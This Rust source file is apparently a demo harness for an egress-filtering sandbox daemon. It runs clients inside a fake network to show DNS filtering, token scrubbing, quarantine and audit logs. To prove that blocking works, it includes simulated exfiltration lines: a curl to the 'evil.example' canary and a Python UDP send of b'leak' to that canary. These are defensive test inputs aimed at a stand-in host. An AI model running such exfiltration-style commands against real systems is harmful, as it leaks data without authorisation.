//! `cargo xtask demo`: a sandbox confined in a small fake internet, with real clients, and
//! the audit records their traffic produced.
//!
//! Everything runs in network namespaces and a cgroup made for the demo, on documentation
//! addresses, with a test CA and a fake token made for the run, and is removed when the
//! demo ends (also on error).
use std::{net::IpAddr, process::Output};

use anyhow::{bail, Context};
use egress_tests::{
    dns_server::{Answer, DnsServer},
    https_origin::{API_V4, GIT_V4},
    proxy_fixture::{ProxyFixture, ProxyOpts},
    servers::Origin,
    world::{CANARY_V4, ORIGIN_V4},
};

use crate::cmd::{bin, build_bins, require_root, step, workspace};

/// The sandbox's configured resolver: nobody serves it; the kernel sends the queries to
/// the sandbox's resolver in egressd.
const SANDBOX_NAMESERVER: [u8; 4] = [203, 0, 113, 99];

fn show(what: &str, out: &Output) {
    let text = |b: &[u8]| String::from_utf8_lossy(b).trim().to_string();
    let status = out
        .status
        .code()
        .map_or("killed".to_string(), |c| format!("exit {c}"));
    println!("  $ {what}\n    -> {status}  {}", text(&out.stdout));
    let err = text(&out.stderr);
    if !err.is_empty() {
        for l in err.lines().filter(|l| !l.trim().is_empty()).take(6) {
            println!("       {l}");
        }
    }
}

pub(crate) fn field(v: &serde_json::Value, path: &str) -> String {
    path.split('.')
        .try_fold(v, |v, k| v.get(k))
        .map_or(String::new(), |x| match x {
            serde_json::Value::String(s) => s.clone(),
            other => other.to_string(),
        })
}

pub(crate) fn summary(v: &serde_json::Value) -> String {
    let s = |p| field(v, p);
    match s("event.action").as_str() {
        "connect" | "sendmsg" => format!(
            "{:<12} {:<8} {:<8} {}:{}/{} {} rule={}",
            s("event.action"),
            s("egress.verdict"),
            s("process.name"),
            s("destination.ip"),
            s("destination.port"),
            s("network.transport"),
            s("destination.domain"),
            s("rule.name")
        ),
        "dns-query" => format!(
            "{:<12} {:<8} {} {} -> {} {} rule={}",
            s("event.action"),
            s("egress.verdict"),
            s("dns.question.type"),
            s("dns.question.name"),
            s("dns.response_code"),
            s("dns.resolved_ip"),
            s("rule.name")
        ),
        "http-request" | "tls-connection" => format!(
            "{:<12} {:<8} {} {}{} -> {} rule={} credential={}{} {} {}",
            s("event.action"),
            s("egress.verdict"),
            s("http.request.method"),
            s("url.domain"),
            s("url.path"),
            s("http.response.status_code"),
            s("rule.name"),
            s("egress.credential.name"),
            match s("egress.scrubbed").as_str() {
                "" => String::new(),
                n => format!(" scrubbed={n}"),
            },
            s("egress.git.ref_updates"),
            s("event.reason")
        ),
        "sandbox-quarantine" | "sandbox-release" => format!(
            "{:<12} {} by {} {}",
            s("event.action"),
            s("egress.sandbox.name"),
            s("egress.quarantine.trigger"),
            s("event.reason")
        ),
        "credential-revoke" => format!(
            "{:<12} {} credential={} {} {}",
            s("event.action"),
            s("egress.sandbox.name"),
            s("egress.credential.name"),
            s("event.outcome"),
            s("event.reason")
        ),
        other if s("event.kind") == "alert" => format!(
            "{:<12} ALERT    {} {}{} rule={} credential={} count={} response={} {}",
            other,
            s("egress.sandbox.name"),
            s("url.domain"),
            s("url.path"),
            s("rule.name"),
            s("egress.credential.name"),
            s("egress.alert.count"),
            s("egress.alert.response"),
            s("event.reason")
        ),
        other => format!("{other:<12} {}", s("egress.sandbox.name")),
    }
}

pub fn run() -> anyhow::Result<()> {
    require_root("the demo")?;
    build_bins()?;
    // SAFETY: single-threaded here; the harness reads these to find the binaries.
    unsafe {
        std::env::set_var("EGRESSD_BIN", bin("egressd"));
        std::env::set_var("EGRESSCTL_BIN", bin("egressctl"));
    }

    step("Building a fake internet, starting egressd, attaching policies/agent.yaml");
    let policy = std::fs::read_to_string(workspace().join("policies/agent.yaml"))
        .context("reading policies/agent.yaml")?;
    let fx = ProxyFixture::new(ProxyOpts {
        policy,
        nameserver: Some(IpAddr::from(SANDBOX_NAMESERVER)),
        ..ProxyOpts::default()
    })?;
    let answers = [
        Answer::new("origin.example", ORIGIN_V4.into()),
        Answer::new("api.github.com", API_V4.into()),
        Answer::new("github.com", GIT_V4.into()),
        Answer::new("evil.example", CANARY_V4.into()),
    ];
    let dns = DnsServer::start(&fx.world, &answers, 60)?;
    let _http_origin = Origin::start(&fx.world)?;
    println!("  origin.example   {ORIGIN_V4}:80   a plain web origin");
    println!("  api.github.com   {API_V4}:443  a fake GitHub API that requires a token");
    println!("  github.com       {GIT_V4}:443  a git smart-HTTP origin (acme/widgets) that requires a token");
    println!("  evil.example     {CANARY_V4}      a canary that records anything reaching it");
    println!(
        "  DNS              {}   the world's resolver (dnsmasq)",
        dns.addr()
    );
    println!("  sandbox cgroup {}", fx.sandbox.cgroup().path().display());
    println!("  the daemon holds the tokens; the sandbox trusts only `egressctl ca export`");

    step("Names: the sandbox's resolver answers only names the policy lists");
    show(
        "dig +short api.github.com",
        &fx.sandbox
            .run("dig", &["+short", "+time=3", "+tries=1", "api.github.com"])?,
    );
    show(
        "dig evil.example   (not in the policy)",
        &fx.sandbox
            .sh("dig +time=3 +tries=1 evil.example | grep -E 'status|^evil'")?,
    );
    println!(
        "  evil.example reached the world's DNS server: {}",
        if dns.asked("evil.example") {
            "YES"
        } else {
            "no"
        }
    );

    step("Running real clients inside the sandbox (no token, no proxy settings)");
    show(
        "curl http://origin.example/",
        &fx.sandbox.curl(&["http://origin.example/"])?,
    );
    let api = "https://api.github.com/repos/acme/widgets/pulls";
    show(
        &format!("curl {api}"),
        &fx.curl(&["-w", " [HTTP %{http_code}]", api])?,
    );
    let other = "https://api.github.com/repos/acme/widgets";
    show(
        &format!("curl -X DELETE {other}   (method not allowed)"),
        &fx.curl(&["-w", " [HTTP %{http_code}]", "-X", "DELETE", other])?,
    );
    let canary_url = format!("http://{CANARY_V4}/");
    show(
        &format!("curl {canary_url}   (an address no allowed name resolved to)"),
        &fx.sandbox.curl(&[&canary_url])?,
    );
    let udp = format!(
        "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'leak', ('{CANARY_V4}', 9))"
    );
    show(
        "python3: sendto(b'leak', 203.0.113.66:9/udp)   (not in the policy)",
        &fx.sandbox.run("python3", &["-c", &udp])?,
    );

    step("git: clone, push to agent/demo (allowed), push to main (refused by the policy)");
    let ca = format!("http.sslCAInfo={}", fx.proxy_ca().display());
    let git = |args: &[&str]| {
        let mut all = vec!["-c", ca.as_str()];
        all.extend_from_slice(args);
        fx.git(&all)
    };
    show(
        "git clone https://github.com/acme/widgets.git",
        &git(&[
            "clone",
            "-q",
            "https://github.com/acme/widgets.git",
            "widgets",
        ])?,
    );
    let commit = git(&[
        "-C",
        "widgets",
        "-c",
        "user.name=agent",
        "-c",
        "user.email=agent@example.invalid",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "work from the agent",
    ])?;
    if !commit.status.success() {
        bail!(
            "git commit failed: {}",
            String::from_utf8_lossy(&commit.stderr)
        );
    }
    show(
        "git push origin HEAD:agent/demo",
        &git(&["-C", "widgets", "push", "origin", "HEAD:agent/demo"])?,
    );
    show(
        "git push origin HEAD:main",
        &git(&["-C", "widgets", "push", "origin", "HEAD:main"])?,
    );

    step("What the GitHub origins received");
    std::thread::sleep(std::time::Duration::from_millis(300));
    for r in fx.origin.requests()? {
        let auth = if r.authorization.is_empty() {
            "none"
        } else {
            "<the daemon's token>"
        };
        println!(
            "  {} {} {} -> {}  Authorization: {auth}",
            r.method, r.host, r.uri, r.status
        );
    }
    let env = fx.sandbox.run("env", &[] as &[&str])?;
    let leaked = String::from_utf8_lossy(&env.stdout).contains(fx.token());
    println!(
        "  token in the sandbox's environment: {}",
        if leaked { "YES" } else { "no" }
    );

    step("Secrets never come back: an origin that echoes the Authorization it received");
    let echo = "https://api.github.com/repos/acme/widgets/echo/json";
    let echoed = fx.curl(&["-i", echo])?;
    show(&format!("curl -i {echo}"), &echoed);
    let leaked = String::from_utf8_lossy(&echoed.stdout).contains(fx.token());
    println!(
        "  the token reached the sandbox: {}",
        if leaked {
            "YES"
        } else {
            "no (scrubbed by the proxy)"
        }
    );
    let records = fx.daemon.audit_records()?;
    if let Some(alert) = records
        .iter()
        .find(|r| r["event"]["action"] == "secret-reflected")
    {
        println!("  alert: {}", summary(alert));
    }

    step("Incident response: egressctl quarantine (deny-all at once), then release");
    let name = fx.sandbox.label().to_string();
    show(
        &format!("egressctl quarantine {name} --reason \"demo: suspected exfiltration\""),
        &fx.daemon.ctl([
            "quarantine",
            &name,
            "--reason",
            "demo: suspected exfiltration",
        ])?,
    );
    show(
        &format!("curl {api}   (quarantined)"),
        &fx.curl(&["-w", " [HTTP %{http_code}]", api])?,
    );
    let cached = format!("api.github.com:443:{API_V4}");
    show(
        &format!("curl --resolve {cached} {api}   (quarantined, a cached answer)"),
        &fx.curl(&["-w", " [HTTP %{http_code}]", "--resolve", &cached, api])?,
    );
    show(
        "dig api.github.com   (quarantined)",
        &fx.sandbox
            .sh("dig +time=3 +tries=1 api.github.com | grep -E 'status'")?,
    );
    let status = fx.daemon.ctl(["status"])?;
    show("egressctl status", &status);
    show(
        &format!("egressctl release {name}"),
        &fx.daemon.ctl(["release", &name])?,
    );
    show(
        &format!("curl {api}   (released)"),
        &fx.curl(&["-w", " [HTTP %{http_code}]", api])?,
    );

    step("egressctl status");
    let status = fx.daemon.ctl(["status"])?;
    print!("{}", String::from_utf8_lossy(&status.stdout));

    step("Audit log (JSONL; kernel decisions, DNS answers, proxied requests, lifecycle)");
    let log = std::fs::read_to_string(fx.daemon.audit_log()).context("reading the audit log")?;
    for line in log.lines() {
        let v: serde_json::Value = serde_json::from_str(line)?;
        println!("  #{:<3} {}", field(&v, "event.sequence"), summary(&v));
    }
    println!("\n  full records: {}", fx.daemon.audit_log().display());
    if let Some(last) = log.lines().rev().find(|l| l.contains("\"ref_updates\"")) {
        println!("  a refused push in full:\n  {last}");
    }
    if log.contains(fx.token()) {
        bail!("the token appears in the audit log");
    }
    println!("  token in the audit log: no");

    step("The canary (the denied destination) received:");
    let got = fx.canary.received()?;
    println!("  {} connections or datagrams", got.len());
    if !got.is_empty() {
        bail!("the canary received traffic: {got:?}");
    }
    step("Done; removing the demo's namespaces, cgroup, servers and pins");
    Ok(())
}
